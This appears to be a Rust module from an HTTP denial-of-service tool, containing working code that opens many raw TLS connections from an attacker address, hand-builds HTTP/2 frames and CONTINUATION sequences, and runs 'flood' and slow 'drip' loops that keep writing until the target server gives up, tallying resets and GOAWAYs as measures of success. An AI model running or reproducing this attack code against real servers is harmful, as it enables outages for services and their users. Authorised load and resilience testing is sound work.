//! Raw connections over TLS, and HTTP/2 frames (RFC 9113 §4.1).

use std::{
    io,
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time::{interval, timeout},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

use super::{Aim, Tally, hpack};
use crate::Protocol;

/// For TCP and TLS each.
const PATIENCE: Duration = Duration::from_secs(5);
/// Between two bursts of an attack that floods.
pub(crate) const BEAT: Duration = Duration::from_millis(10);

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
pub(crate) const GOAWAY: u8 = 7;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;

pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// TCP from the attacker's own address.
pub(super) async fn tcp(aim: &Aim, receive: Option<u32>) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    if let Some(bytes) = receive {
        socket.set_recv_buffer_size(bytes)?;
    }
    socket.bind((aim.from, 0).into())?;
    let stream = timeout(PATIENCE, socket.connect(aim.target.h1.address)).await??;
    // Thousands of connections that wait in TIME_WAIT would use up the ports.
    stream.set_zero_linger()?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// The same, and TLS.
pub(super) async fn tls(
    aim: &Aim,
    protocol: Protocol,
    receive: Option<u32>,
) -> io::Result<TlsStream<TcpStream>> {
    let server = aim.server(protocol);
    let config = server.tls.as_ref().ok_or_else(|| io::Error::other("the target has no TLS"))?;
    let name = ServerName::try_from(server.name.clone()).map_err(io::Error::other)?;
    let tcp = tcp(aim, receive).await?;
    timeout(PATIENCE, TlsConnector::from(Arc::clone(config)).connect(name, tcp)).await?
}

/// Adds a frame.
pub(crate) fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A header section in as many frames as it takes (RFC 9113 §4.3).
pub(crate) fn section(out: &mut Vec<u8>, stream: u32, end_stream: bool, section: &[u8]) {
    let mut pieces = section.chunks(16_384).peekable();
    let mut kind = HEADERS;
    while let Some(piece) = pieces.next() {
        let mut flags = if pieces.peek().is_none() { END_HEADERS } else { 0 };
        if kind == HEADERS && end_stream {
            flags |= END_STREAM;
        }
        frame(out, kind, flags, stream, piece);
        kind = CONTINUATION;
    }
}

/// The client's preface with these settings, and a connection window of that much more.
pub(crate) fn preface(settings: &[(u16, u32)], window: u32) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    let mut payload = Vec::new();
    for (name, value) in settings {
        payload.extend_from_slice(&name.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(&mut out, SETTINGS, 0, 0, &payload);
    if window > 0 {
        frame(&mut out, WINDOW_UPDATE, 0, 0, &window.to_be_bytes());
    }
    out
}

/// Writes what `more` makes at every beat, and counts what comes back, until the server has had
/// enough.
pub(super) async fn flood(
    aim: &Aim,
    tally: &Tally,
    begin: Vec<u8>,
    reads: bool,
    mut more: impl FnMut(&mut Vec<u8>),
) -> io::Result<()> {
    let (reader, mut writer) = tokio::io::split(tls(aim, Protocol::H2, None).await?);
    let write = async {
        writer.write_all(&begin).await?;
        let mut beat = interval(BEAT);
        let mut out = Vec::new();
        loop {
            beat.tick().await;
            out.clear();
            more(&mut out);
            writer.write_all(&out).await?;
            // What rustls has sealed leaves with the next byte only.
            writer.flush().await?;
        }
    };
    let read =
        async { if reads { frames(reader, tally).await } else { std::future::pending().await } };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

/// Counts what the server answers over HTTP/2 until it ends the connection.
pub(crate) async fn frames(mut reader: impl AsyncRead + Unpin, tally: &Tally) -> io::Result<()> {
    let mut payload = vec![0; 16_384];
    loop {
        let mut head = [0; 9];
        if reader.read(&mut head[..1]).await? == 0 {
            return Ok(());
        }
        reader.read_exact(&mut head[1..]).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        payload.resize(length, 0);
        reader.read_exact(&mut payload).await?;
        let code = |at: usize| {
            let four = payload.get(at..at + 4).and_then(|bytes| bytes.try_into().ok());
            four.map_or(0, u32::from_be_bytes)
        };
        match head[3] {
            HEADERS => match hpack::status(&payload) {
                Some(status) => tally.add(&format!("answered {status}"), 1),
                None => tally.add("answered", 1),
            },
            RST_STREAM => tally.add(&format!("stream reset {}", code(0)), 1),
            GOAWAY => tally.add(&format!("goaway {}", code(4)), 1),
            SETTINGS | PING if head[4] & 1 == 1 => tally.add("acknowledged", 1),
            _ => {}
        }
    }
}

/// Counts statuses of HTTP/1.1 until the server ends the connection.
pub(super) async fn statuses(mut reader: impl AsyncRead + Unpin, tally: &Tally) -> io::Result<()> {
    let mut bytes = vec![0; 16_384];
    loop {
        let length = reader.read(&mut bytes).await?;
        if length == 0 {
            return Ok(());
        }
        if let Some(rest) = bytes[..length].strip_prefix(b"HTTP/1.1 ") {
            let code = String::from_utf8_lossy(rest.get(..3).unwrap_or_default()).into_owned();
            tally.add(&format!("answered {code}"), 1);
        }
    }
}

/// Writes `piece` every so often, and counts what HTTP/1.1 or HTTP/2 answers, until the server
/// has had enough; how long that took is counted too.
pub(super) async fn drip(
    stream: TlsStream<TcpStream>,
    protocol: Protocol,
    tally: &Tally,
    begin: &[u8],
    every: Duration,
    mut piece: impl FnMut(&mut Vec<u8>),
) -> io::Result<()> {
    let begun = Instant::now();
    let (reader, mut writer) = tokio::io::split(stream);
    let write = async {
        writer.write_all(begin).await?;
        writer.flush().await?;
        let mut beat = interval(every);
        loop {
            beat.tick().await;
            let mut out = Vec::new();
            piece(&mut out);
            writer.write_all(&out).await?;
            writer.flush().await?;
            tally.add("pieces", 1);
        }
    };
    let read = async {
        match protocol {
            Protocol::H1 => statuses(reader, tally).await,
            _ => frames(reader, tally).await,
        }
    };
    let ended: io::Result<()> = tokio::select! {
        ended = write => ended,
        ended = read => ended,
    };
    tally.add("seconds until cut", begun.elapsed().as_secs());
    ended
}

/// Reads and forgets at most `bytes`.
pub(super) async fn sip(reader: &mut (impl AsyncRead + Unpin), bytes: usize) -> io::Result<usize> {
    let mut buffer = vec![0; bytes];
    reader.read(&mut buffer).await
}

/// Writes all of it and flushes.
pub(super) async fn send(writer: &mut (impl AsyncWrite + Unpin), bytes: &[u8]) -> io::Result<()> {
    writer.write_all(bytes).await?;
    writer.flush().await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_as_the_specification_has_them() {
        let mut out = Vec::new();
        frame(&mut out, PING, 0, 0, b"12345678");
        assert_eq!(out, *b"\0\0\x08\x06\0\0\0\0\x0012345678");
        let mut out = Vec::new();
        section(&mut out, 1, true, &vec![0; 20_000]);
        assert_eq!(out.len(), 20_000 + 18);
        assert_eq!(out[3..5], [HEADERS, END_STREAM]);
        assert_eq!(out[9 + 16_384 + 3..][..2], [CONTINUATION, END_HEADERS]);
    }

    #[tokio::test]
    async fn answers_are_counted() {
        let mut bytes = Vec::new();
        frame(&mut bytes, SETTINGS, 1, 0, &[]);
        frame(&mut bytes, HEADERS, END_HEADERS, 1, &[0x8d]);
        frame(&mut bytes, DATA, END_STREAM, 1, b"x");
        frame(&mut bytes, RST_STREAM, 0, 3, &7_u32.to_be_bytes());
        frame(&mut bytes, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        let tally = Tally::default();
        frames(&bytes[..], &tally).await.unwrap();
        assert_eq!(
            tally.to_string(),
            "acknowledged 1, answered 404 1, goaway 11 1, stream reset 7 1"
        );
    }
}
